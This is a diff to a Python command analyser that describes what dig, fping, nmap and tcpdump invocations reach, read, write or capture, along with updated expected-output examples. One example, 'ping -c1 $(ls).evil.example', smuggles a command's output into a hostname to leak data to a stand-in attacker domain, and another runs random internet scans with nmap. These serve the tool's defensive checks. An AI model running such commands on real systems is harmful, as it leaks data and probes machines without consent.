@@ -29,17 +29,19 @@ def _named_in_file(args: Args, option: str) -> Iterator[Fact]:
 
 
 def _digging(args: Args) -> Iterator[Fact]:
-    """`dig @server +options TYPE name -x address`: every name and server is talked to."""
+    """`dig @server +options TYPE name -x address`: every name and server is talked to; without a name, the root is."""
     yield from _named_in_file(args, "-f")
+    asked = args.has("-f", "-h", "-v")
     for word in [*args.operands, *args.values("-x", "-q")]:
         text = word.value
         if text is not None and (text.startswith("+") or text.upper() in RECORD_TYPES or not text):
             continue
+        asked = True
         if text is not None and text.startswith("@"):
             yield from args.reach(f"https://{text[1:]}", shown=text[1:])
         else:
             yield from args.act("host", word)
-    if not args.operands and not args.given:
+    if not asked:
         yield from args.reach("https://a.root-servers.net", shown="a.root-servers.net")
 
 
@@ -71,14 +73,17 @@ def _echoes(args: Args) -> Iterator[Fact]:
 
 
 def _many_echoes(args: Args) -> Iterator[Fact]:
+    """Without machines, `fping` reads them from standard input."""
     yield from _named_in_file(args, "-f" if args.name == "fping" else "-F")
-    if not args.operands and not args.given:
+    if not args.operands and not (args.has("-f", "-v") if args.name == "fping" else args.given):
         yield args.gap("it reads which machines to ask", blind=True)
 
 
 def _scanning(args: Args) -> Iterator[Fact]:
     """`nmap`: `-oA name` writes three files; `-sC` and `-A` run the scripts that come with it."""
     yield from _named_in_file(args, "-iL")
+    if args.has("-iR"):
+        yield args.effect("reach", "machines anywhere, chosen by chance")
     for word in args.values("-oA"):
         if word.value is None:
             yield from args.file("write", word)
@@ -94,6 +99,7 @@ def _scanning(args: Args) -> Iterator[Fact]:
 def _capturing(args: Args) -> Iterator[Fact]:
     if not args.has("-r", "-D", "-L"):
         yield args.effect("note", "what passes through the network", "network.capture")
+        yield args.gap("shows what others send through the network")
     if not args.has("-n", "-D", "-L") and not (args.has("-w") and not args.has("--print")):
         yield args.effect("reach", "name servers, for the addresses it shows")
     if args.has("-z"):
@@ -173,6 +179,15 @@ PROGRAMS = {
 }
 
 EXAMPLES = {
+    "dig -4": "reach a.root-servers.net",
+    "dig -t mx": "reach a.root-servers.net",
+    "dig +short": "reach a.root-servers.net",
+    "dig -v": "note dig",
+    "fping -a": "note fping | blind fping: it reads which machines to ask",
+    "fping -g 10.0.0.0/24": "reach 10.0.0.0/24",
+    "nmap -iR 5": "reach machines anywhere, chosen by chance",
+    "tcpdump -n -c 1": "note what passes through the network #network.capture"
+    " | gap tcpdump: shows what others send through the network",
     "ping -c 4 example.com": "reach example.com",
     "ping -c1 $(ls).evil.example": "list . | reach $(ls).evil.example"
     " | blind ping: a word is not known (output of a command) | blind ping: host is not known (output of a command)",
@@ -213,9 +228,10 @@ EXAMPLES = {
     "nmap -sC example.com": "run scripts of nmap #program | reach example.com",
     "nmap -iL a": "read a | reach machines that a file names | blind nmap: which machines it talks to is not known",
     "tcpdump -i any -c 10 port 80": "note what passes through the network #network.capture"
-    " | reach name servers, for the addresses it shows",
+    " | reach name servers, for the addresses it shows | gap tcpdump: shows what others send through the network",
     "tcpdump -nnvvr a": "read a",
-    "tcpdump -w out -G 1 -z ls": "write out | run ls #program | note what passes through the network #network.capture"
-    " | gap tcpdump: what its program does is not followed",
+    "tcpdump -w out -G 1 -z ls": "write out | run ls #program"
+    " | note what passes through the network #network.capture"
+    " | gap tcpdump: shows what others send through the network | gap tcpdump: what its program does is not followed",
     "tcpdump -D": "note tcpdump",
 }
